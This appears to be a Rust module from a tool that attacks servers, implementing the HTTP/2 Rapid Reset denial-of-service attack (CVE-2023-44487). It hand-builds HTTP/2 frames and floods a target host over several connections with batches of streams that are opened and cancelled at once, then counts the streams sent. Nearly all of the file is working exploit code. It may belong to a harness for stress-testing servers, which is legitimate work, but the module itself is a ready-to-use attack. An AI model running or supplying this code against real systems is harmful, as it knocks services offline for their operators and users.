//! HTTP/2 streams that are reset as soon as they are opened (CVE-2023-44487).

use std::time::Duration;

use super::{FILE, FILES_PATH, flood};
use crate::hostile::strike::Strike;
use crate::process::WorkerError;

const CONNECTIONS: usize = 8;
const STREAMS: u64 = 500;
const FLOODED: Duration = Duration::from_secs(8);

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
/// END_STREAM and END_HEADERS.
const WHOLE: u8 = 5;
const CANCEL: [u8; 4] = 8_u32.to_be_bytes();

pub(in crate::hostile) fn strike(strike: &mut Strike) -> Result<(), WorkerError> {
    let host = strike.web()?.host.clone();
    let head = head(&host);
    let connections = strike.few(CONNECTIONS);
    let flooded = flood(strike, connections, FLOODED, |count| batch(&head, count))?;
    strike.made("streams written, and given up", flooded.written * STREAMS);
    Ok(())
}

/// The streams that follow those of so many batches.
fn batch(head: &[u8], count: u64) -> Vec<u8> {
    let mut bytes = Vec::new();
    if count == 0 {
        bytes.extend_from_slice(PREFACE);
        frame(SETTINGS, 0, 0, &[], &mut bytes);
    }
    for stream in count * STREAMS..(count + 1) * STREAMS {
        // Odd numbers are a client's.
        let stream = (2 * stream + 1) as u32;
        frame(HEADERS, WHOLE, stream, head, &mut bytes);
        frame(RESET, 0, stream, &CANCEL, &mut bytes);
    }
    bytes
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8], out: &mut Vec<u8>) {
    out.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// `:method GET`, `:scheme http`, `:path`, `:authority`, by HPACK's static table (RFC 7541).
fn head(host: &str) -> Vec<u8> {
    let mut bytes = vec![0x82, 0x86];
    let path = format!("/{FILES_PATH}/{FILE}");
    for (name, value) in [(4, path.as_str()), (1, host)] {
        bytes.extend_from_slice(&[name, value.len().min(126) as u8]);
        bytes.extend_from_slice(&value.as_bytes()[..value.len().min(126)]);
    }
    bytes
}
